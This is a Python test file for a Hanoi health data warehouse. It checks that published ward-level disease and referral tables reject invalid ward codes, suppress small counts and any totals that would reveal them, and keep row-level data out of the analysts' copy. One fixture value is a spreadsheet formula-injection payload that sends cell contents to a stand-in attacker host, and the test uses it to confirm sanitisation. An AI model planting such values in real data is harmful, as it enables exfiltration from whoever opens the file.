"""What the marts publish by ward: only Hanoi's wards, and no small cell that a published total
gives back."""

from __future__ import annotations

import stat
from datetime import date

import duckdb
import pytest
from test_marts_lake import SQL_DIR, build_project, facility, make_lake, query

from hanoi_health_lake.config import analysts_warehouse_path, warehouse_path
from hanoi_health_lake.reports.dashboard import referrals_section
from hanoi_health_lake.reports.model import Table, same
from hanoi_health_lake.reports.period import Period
from hanoi_health_lake.reports.source import open_source
from hanoi_health_lake.sqlmodels import load_models
from hanoi_health_lake.sqlmodels.publish import analysts_path

T = date(2026, 3, 10)
HOSTILE_WARD = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
# Three city hospitals in three wards, one central hospital.
A, B, C, D = "01001", "01002", "01003", "01004"
WARD = {A: "00004", B: "00008", C: "00010", D: "00016"}
REGISTRY = [
    facility(A, "city_hospital", "public_city", WARD[A]),
    facility(B, "city_hospital", "public_city", WARD[B]),
    facility(C, "city_hospital", "public_city", WARD[C]),
    facility(D, "central_hospital", "public_central", WARD[D]),
]
# city_hospital → central_hospital: 7 from A, 6 from B, 2 from C (15 in all); 2 back from D.
REFERRALS = [(A, D)] * 7 + [(B, D)] * 6 + [(C, D)] * 2 + [(D, A)] * 2


def _person(n: int, **values) -> dict:
    return {
        "facility_code": A,
        "service_date": T,
        "patient_key": f"k{n}",
        "patient_key_type": "cccd",
        **values,
    }


def _rows() -> dict[str, list[dict]]:
    dengue = [
        _person(n, encounter_id=f"E{n}", ward_code=ward, icd10="A90", icd10_chapter="I",
                is_primary=True, seq=1)
        for n, ward in enumerate([HOSTILE_WARD] * 6 + ["99999"] * 2 + [WARD[A]] * 5)
    ]  # fmt: skip
    return {
        "diagnoses": dengue,
        "referrals": [
            _person(
                n,
                facility_code=src,
                referral_id=f"r{n}",
                from_facility_code=src,
                to_facility_code=dst,
            )
            for n, (src, dst) in enumerate(REFERRALS)
        ],
    }


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory):
    root = tmp_path_factory.mktemp("publication")
    return build_project(root, make_lake(root, REGISTRY, _rows()))


def test_an_unknown_ward_code_is_counted_as_unknown_never_as_a_ward(warehouse):
    rows = query(
        warehouse,
        "select ward_code, cases, suppressed from mart_disease_counts_daily "
        "where classification = 'disease_group' and category = 'dengue'",
    )
    # The six with a formula for a ward and the two with a code outside Hanoi's list are one
    # "unknown" (NULL) cell; the formula appears nowhere in the mart.
    assert {r["ward_code"]: r["cases"] for r in rows} == {WARD[A]: 5, None: 8}
    everywhere = query(warehouse, "select distinct ward_code from mart_disease_counts_daily")
    assert {r["ward_code"] for r in everywhere} == {WARD[A], None}


def test_referral_flows_withhold_small_type_totals_and_what_gives_a_small_ward_cell_back(
    warehouse,
):
    rows = query(warehouse, "select * from mart_referral_flows_daily where service_date = ?", [T])
    by_type = {
        r["from_facility_type"]: (r["referrals"], r["suppressed"])
        for r in rows
        if r["level"] == "facility_type"
    }
    assert by_type == {"city_hospital": (15, False), "central_hospital": (None, True)}
    by_ward = {r["from_ward_code"]: (r["referrals"], r["suppressed"]) for r in rows
               if r["level"] == "ward" and r["from_facility_type"] == "city_hospital"}  # fmt: skip
    # C's 2 is withheld; so is B's 6, the smallest other cell, else 15 - 7 - 6 = 2.
    assert by_ward == {WARD[A]: (7, False), WARD[B]: (None, True), WARD[C]: (None, True)}
    published = sum(r for r, _ in by_ward.values() if r is not None)
    assert by_type["city_hospital"][0] - published > 4


def test_the_dashboards_referral_table_withholds_small_flows(warehouse):
    with open_source(warehouse.path) as src:
        section = referrals_section(src, Period("daily", T, T))
    table = next(b for b in section.blocks if isinstance(b, Table))
    cells = dict(zip(table.row_ids, (row[2] for row in table.rows), strict=True))
    assert cells == {
        "city_hospital:central_hospital": 15,
        "central_hospital:city_hospital": same("<5"),
    }


def _tables(path) -> dict[str, list[str]]:
    with duckdb.connect(str(path), read_only=True) as con:
        rows = con.execute(
            "select schema_name || '.' || table_name, column_name from duckdb_columns() "
            "where database_name = current_database()"
        ).fetchall()
    found: dict[str, list[str]] = {}
    for table, column in rows:
        found.setdefault(table, []).append(column)
    return found


def test_analysts_get_a_file_of_marts_only_from_which_no_withheld_cell_comes_back(warehouse):
    analysts = analysts_path(warehouse.path)
    home = warehouse.path.parent
    assert analysts_path(warehouse_path(home)) == analysts_warehouse_path(home)
    published = _tables(analysts)
    marts = {f"main.{m.name}" for m in load_models(SQL_DIR) if m.name.startswith("mart_")}
    assert set(published) == marts
    row_level = {"patient_key", "encounter_id", "referral_id", "record_no", "source_file"}
    assert not {c for columns in published.values() for c in columns} & row_level
    # The engineers' file holds what rebuilds ward C's withheld 2 referrals; owner-only on disk.
    rebuild = (
        "select count(*) from stg_referrals join lake.facilities using (facility_code) "
        "where facilities.ward_code = ?"
    )
    assert query(warehouse, rebuild, [WARD[C]]) == [{"count_star()": 2}]
    assert stat.S_IMODE(warehouse.path.stat().st_mode) == 0o600
    # The analysts' file has no such table, and every row about ward C withholds its count.
    with duckdb.connect(str(analysts), read_only=True) as con:
        with pytest.raises(duckdb.CatalogException):
            con.execute(rebuild, [WARD[C]])
        about_c = con.execute(
            "select referrals from mart_referral_flows_daily where from_ward_code = ?", [WARD[C]]
        ).fetchall()
        assert about_c == [(None,)]
        # Withheld disease cells stay withheld; comments (descriptions) come along when set.
        assert con.execute(
            "select count(*) from mart_disease_counts_daily where suppressed and cases is not null"
        ).fetchone() == (0,)
